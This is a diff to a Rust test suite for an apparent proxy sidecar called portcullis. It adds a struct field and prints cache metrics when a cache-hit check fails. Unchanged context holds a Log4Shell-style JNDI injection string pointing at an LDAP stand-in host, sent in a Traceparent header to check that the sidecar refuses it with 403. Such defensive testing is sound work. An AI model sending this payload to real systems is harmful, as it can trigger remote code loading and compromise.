@@ -86,7 +86,7 @@ fn start(program: &Path, sidecar: &Sidecar, backend: &Backend, more: Changes<'_>
 fn front<'f>(envoy: &Envoy, sidecar: &'f Sidecar, backend: &'f Backend) -> Front<'f> {
     let bodies = Bodies::Judged { over: 413, exact: true };
     // On loopback Envoy names an address of its own, or the client's.
-    Front { port: envoy.port, sidecar, backend, bodies, raw_targets: false, client: "", failed: 503 }
+    Front { port: envoy.port, sidecar, backend, bodies, raw_targets: false, forwards: false, client: "", failed: 503 }
 }
 
 /// The suite.
@@ -197,7 +197,11 @@ fn cached(front: &Front<'_>) -> Checked {
     ids.dedup();
     ensure(ids.len() == 5, || format!("request ids {ids:?}"))?;
     let hits = cases::cache_hits(front.sidecar) - before;
-    ensure(hits >= 4.0, || format!("{hits} hits in five equal requests"))?;
+    ensure(hits >= 4.0, || {
+        let metrics = front.sidecar.metrics();
+        let cache: Vec<&str> = metrics.lines().filter(|line| line.starts_with("portcullis_cache_")).collect();
+        format!("{hits} hits in five equal requests\n{}", cache.join("\n"))
+    })?;
     let attack = ask.header("Traceparent", "${jndi:ldap://192.0.2.1/a}");
     cases::refused(&attack.send(front.port)?, 403)
 }
